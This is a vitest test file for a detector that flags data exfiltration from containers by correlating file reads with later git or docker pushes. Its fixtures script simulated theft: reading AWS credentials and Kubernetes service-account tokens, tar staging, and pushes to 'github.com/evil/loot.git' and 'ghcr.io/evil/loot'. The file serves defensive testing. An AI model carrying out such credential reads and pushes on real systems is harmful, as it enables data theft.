/**
 * Reads before a push, on event time: thresholds, the sliding window, late events, container exit,
 * interleaved containers, docker.sock bridging and gaps.
 */
import { describe, expect, it } from 'vitest';
import { brief, MiB, makeCorrelator, run, Scenario, T0 } from './builder.js';

const GITHUB_IP = '140.82.112.3';

/** Container c runs `git push https://github.com/evil/loot.git` now, with its helper and 1 MiB of egress. */
function gitPush(s: Scenario, c: ReturnType<Scenario['container']>, parent = s.init(c)) {
  const url = 'https://github.com/evil/loot.git';
  const git = s.exec(c, '/usr/bin/git', `push ${url} main`, { parent });
  const helper = s.exec(c, '/usr/lib/git-core/git-remote-https', `${url} ${url}`, { parent: git });
  s.connect(helper, GITHUB_IP, 443).send(helper, GITHUB_IP, 443, MiB);
  return git;
}

describe('thresholds and severity', () => {
  const cases: Array<[string, (s: Scenario, sh: ReturnType<Scenario['init']>) => void, string, string]> = [
    ['bulk reads (≥ 64 MiB) → high', (s, sh) => s.readMany(sh, '/data', 70, MiB, 1000), 'bulk-read-then-push', 'high'],
    [
      'bulk reads ≥ 4× → critical',
      (s, sh) => s.readMany(sh, '/data', 260, MiB, 100),
      'bulk-read-then-push',
      'critical',
    ],
    [
      'bulk reads plus a secret → critical',
      (s, sh) => s.readMany(sh, '/data', 70, MiB, 100).read(sh, '/home/app/.aws/credentials', 300),
      'bulk-read-then-push',
      'critical',
    ],
    [
      'a service-account token read → high',
      (s, sh) => s.read(sh, '/var/run/secrets/kubernetes.io/serviceaccount/token', 900),
      'sensitive-read-then-push',
      'high',
    ],
    [
      'moderate bytes (≥ 8 MiB) → medium',
      (s, sh) => s.readMany(sh, '/data', 9, MiB, 100),
      'push-after-moderate-reads',
      'medium',
    ],
    [
      'moderate files (≥ 200) → medium',
      (s, sh) => s.readMany(sh, '/src', 210, 1000, 10),
      'push-after-moderate-reads',
      'medium',
    ],
    [
      'noise paths never count',
      (s, sh) => s.readMany(sh, '/usr/lib/x86_64-linux-gnu', 300, MiB, 10),
      'push-without-reads',
      'low',
    ],
  ];
  for (const [name, reads, rule, severity] of cases) {
    it(name, () => {
      const s = new Scenario();
      const c = s.container();
      const sh = s.init(c);
      reads(s, sh);
      s.wait(60_000);
      gitPush(s, c, sh);
      expect(brief(run(s.events).alerts)).toEqual([{ rule, severity, tool: 'git', destination: 'github.com' }]);
    });
  }

  // Found by review: busybox's tar applet (and Alpine's `tar` link with Falco, which names busybox) was no archiver.
  it.each([
    ['/bin/tar', 'czf /tmp/out.tgz /srv/data'],
    ['/bin/busybox', 'tar czf /tmp/out.tgz /srv/data'],
  ])('archive staging (%s %s reading many files) → medium, with the archiver in the evidence', (binary, args) => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const tar = s.exec(c, binary, args, { parent: sh });
    s.readMany(tar, '/srv/data', 25, 4096, 5).exit(tar).wait(30_000);
    gitPush(s, c, sh);
    const { alerts } = run(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'push-after-moderate-reads', severity: 'medium', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.evidence.find((e) => e.kind === 'archive')?.detail).toContain('read 25 files');
  });
});

describe('the sliding window', () => {
  it('low-and-slow reads spread over 29 minutes still add up to bulk', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/data', 70, MiB, 25_000); // 70 MiB over ~29 min
    gitPush(s, c, sh);
    const { alerts } = run(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.reads.bytes).toBe(70 * MiB);
    expect(Date.parse(alerts[0]!.window.start)).toBe(T0);
  });

  it('reads older than the window do not count: 80 MiB over 40 minutes is only moderate at the push', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/data', 80, MiB, 30_000);
    gitPush(s, c, sh);
    const { alerts } = run(s.events);
    expect(brief(alerts)).toEqual([
      { rule: 'push-after-moderate-reads', severity: 'medium', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.reads.bytes).toBeLessThan(64 * MiB);
    expect(alerts[0]!.reads.bytes).toBeGreaterThanOrEqual(59 * MiB);
  });

  it('a shorter configured window applies', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/data', 70, MiB, 100).wait(10 * 60_000);
    gitPush(s, c, sh);
    expect(brief(run(s.events, { config: { windowMs: 5 * 60_000 } }).alerts)[0]!.rule).toBe('push-without-reads');
  });
});

describe('event time and lateness', () => {
  it('a push is judged once the node stream passes it by settle + lateness, not before', () => {
    const s = new Scenario();
    const c = s.container();
    const other = s.container();
    const sh = s.init(c);
    const bg = s.init(other);
    gitPush(s, c, sh);
    const pushEvents = s.events.length;
    s.wait(35_000).read(bg, '/app/a', 10); // 35 s after: not yet due (10 s settle + 30 s lateness)
    const beforeDue = s.events.length;
    s.wait(6_000).read(bg, '/app/b', 10); // 41 s after: due
    const { correlator } = makeCorrelator();
    expect(correlator.ingest(s.events.slice(0, pushEvents))).toEqual([]);
    expect(correlator.ingest(s.events.slice(pushEvents, beforeDue))).toEqual([]);
    expect(brief(correlator.ingest(s.events.slice(beforeDue)))).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
    ]);
    expect(correlator.flush()).toEqual([]);
  });

  it('reads arriving after the push (out of order, within lateness) still count', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.wait(60_000);
    gitPush(s, c, sh);
    const pushAt = s.now;
    // Tetragon held these kprobe events back: event time before the push, arrival after it.
    for (let i = 0; i < 70; i++) s.read(sh, `/data/late${i}`, MiB, { at: pushAt - 50_000 + i * 100 });
    s.wait(45_000).read(sh, '/app/tick', 1);
    const { alerts } = run(s.events, { batchSize: 10 });
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
  });

  it('reads arriving after the push was judged do not change it', () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.wait(60_000);
    gitPush(s, c, sh);
    const pushAt = s.now;
    s.wait(45_000).read(sh, '/app/tick', 1);
    for (let i = 0; i < 70; i++) s.read(sh, `/data/very-late${i}`, MiB, { at: pushAt - 1000 });
    expect(brief(run(s.events, { batchSize: 5 }).alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
    ]);
  });

  it('advance() judges on the wall clock when events stop (live mode)', () => {
    const s = new Scenario();
    const c = s.container();
    gitPush(s, c);
    const { correlator } = makeCorrelator();
    expect(correlator.ingest(s.events)).toEqual([]);
    expect(correlator.advance(s.now + 20_000)).toEqual([]);
    expect(correlator.advance(s.now + 41_000)).toHaveLength(1);
  });
});

describe('containers that exit, and several containers on one node', () => {
  it("the container's init exiting ends its window: the push waits out the lateness, not its settle time", () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/data', 70, MiB, 100);
    gitPush(s, c, sh);
    s.wait(500).exit(sh);
    const exitMs = s.now;
    const { correlator } = makeCorrelator();
    expect(correlator.ingest(s.events)).toEqual([]);
    // Another container on the node moves its clock: just short of the lateness after the exit, then past it
    // (the push's own settle + lateness would end 9.5 s later still).
    const other = s.container();
    const tick = (at: number) => correlator.ingest(new Scenario().read(s.init(other), '/tmp/x', 1, { at }).events);
    expect(tick(exitMs + 29_000)).toEqual([]);
    expect(brief(tick(exitMs + 30_500))).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
  });

  it("a Job's reads delivered after its exit, within the lateness, still count towards its push", () => {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    const readsFrom = s.now;
    s.wait(70 * 100);
    gitPush(s, c, sh);
    s.wait(500).exit(sh);
    // The sensor hands over the reads (made before the push) 20 s late, after the exit.
    s.wait(20_000);
    for (let i = 0; i < 70; i++) s.read(sh, `/data/f${i}.dat`, MiB, { at: readsFrom + i * 100 });
    const alerts = run(s.events).alerts;
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.reads.bytes).toBe(70 * MiB);
  });

  it('exited containers are released once idle for a window; a push in a new container starts clean', () => {
    const s = new Scenario();
    const a = s.container();
    const initA = s.init(a);
    s.readMany(initA, '/data', 70, MiB, 100).exit(initA).wait(120_000);
    const b = s.container();
    gitPush(s, b);
    const { correlator } = makeCorrelator();
    const alerts = [...correlator.ingest(s.events), ...correlator.flush()];
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'git', destination: 'github.com' },
    ]);
    expect(alerts[0]!.container.id).toBe(b.ref.id);
    s.wait(120_000).read(s.init(b), '/app/x', 1);
    correlator.ingest(s.events.slice(-1));
    // Not at the lateness after the exit (pid 1 may be a nested pid namespace's: container-exit.test.ts), but
    // like any idle container: windowMs + latenessMs + pushSettleMs after its last event.
    correlator.advance(s.now + 120_000);
    expect(correlator.trackedContainers()).toBe(2);
    // (A pass that ends starts the next one queued meanwhile, which the next call carries on.)
    for (let i = 0; i < 3; i++) correlator.advance(s.now + 1_800_000);
    expect(correlator.trackedContainers()).toBe(1);
  });

  it('interleaved containers keep separate windows', () => {
    const s = new Scenario();
    const a = s.container({ pod: 'reader' });
    const b = s.container({ pod: 'pusher' });
    const shA = s.init(a);
    const shB = s.init(b);
    for (let i = 0; i < 70; i++) {
      s.read(shA, `/data/a${i}`, MiB).wait(50);
      s.read(shB, `/app/b${i % 3}`, 100).wait(50);
    }
    gitPush(s, b, shB);
    s.wait(1000);
    gitPush(s, a, shA);
    const { alerts } = run(s.events);
    expect(alerts.map((x) => [x.pod?.name, x.rule, x.severity])).toEqual([
      ['pusher', 'push-without-reads', 'low'],
      ['reader', 'bulk-read-then-push', 'high'],
    ]);
  });
});

describe('docker.sock bridging', () => {
  function dockerPush(dockerdAfterMs: number, readFiles = 70) {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    if (readFiles > 0) s.readMany(sh, '/data', readFiles, MiB, 100);
    s.exec(c, '/usr/bin/docker', 'push ghcr.io/evil/loot:1', { parent: sh });
    const dockerd = s.hostProc('/usr/bin/dockerd', '-H fd://');
    s.wait(dockerdAfterMs).connect(dockerd, '140.82.121.33', 443);
    for (let i = 0; i < 80; i++) s.send(dockerd, '140.82.121.33', 443, MiB);
    return s;
  }

  it('links the host dockerd egress right after a docker push in a pod', () => {
    const { alerts } = run(dockerPush(2000).events);
    expect(brief(alerts)).toEqual([
      { rule: 'bulk-read-then-push', severity: 'high', tool: 'docker', destination: 'ghcr.io' },
    ]);
    expect(alerts[0]!.egressBytes).toBe(80 * MiB);
    expect(alerts[0]!.evidence.find((e) => e.kind === 'bridge-egress')).toMatchObject({ binary: '/usr/bin/dockerd' });
  });

  it("shows the daemon's upload but never judges by it: it is linked by time, and may be another pod's push", () => {
    const { alerts } = run(dockerPush(2000, 0).events);
    expect(brief(alerts)).toEqual([
      { rule: 'push-without-reads', severity: 'low', tool: 'docker', destination: 'ghcr.io' },
    ]);
    expect(alerts[0]!.egressBytes).toBe(80 * MiB);
  });

  it("counts what the push's own processes sent (a docker CLI talking to a remote daemon over TCP)", () => {
    const s = new Scenario();
    const c = s.container();
    const docker = s.exec(c, '/usr/bin/docker', '-H tcp://203.0.113.7:2376 push ghcr.io/evil/loot:1', {
      parent: s.init(c),
    });
    s.wait(20).connect(docker, '203.0.113.7', 2376);
    for (let i = 0; i < 80; i++) s.send(docker, '203.0.113.7', 2376, MiB);
    expect(brief(run(s.events).alerts)).toEqual([
      { rule: 'bulk-push-without-reads', severity: 'medium', tool: 'docker', destination: 'ghcr.io' },
    ]);
  });

  it('does not link daemon egress outside the span', () => {
    const { alerts } = run(dockerPush(60_000).events);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.egressBytes).toBeNull();
    expect(alerts[0]!.evidence.some((e) => e.kind === 'bridge-egress')).toBe(false);
  });
});

describe('gaps', () => {
  function withGap(place: (s: Scenario) => void) {
    const s = new Scenario();
    const c = s.container();
    const sh = s.init(c);
    s.readMany(sh, '/data', 10, MiB, 1000);
    place(s);
    s.wait(5000);
    gitPush(s, c, sh);
    return run(s.events).alerts;
  }
  it('a gap on the node inside the window marks the alert degraded', () => {
    const alerts = withGap((s) => s.gap());
    expect(alerts.map((a) => a.degraded)).toEqual([true]);
    expect(alerts[0]!.response.some((r) => r.includes('lower bounds'))).toBe(true);
  });
  it('a gap on another node does not', () => {
    expect(withGap((s) => s.gap({ node: 'node-b' })).map((a) => a.degraded)).toEqual([false]);
  });
  it('a gap long before the window does not', () => {
    expect(
      withGap((s) => s.gap({ at: T0 - 3 * 3600_000, fromMs: T0 - 3 * 3600_000 - 5000 })).map((a) => a.degraded),
    ).toEqual([false]);
  });
});
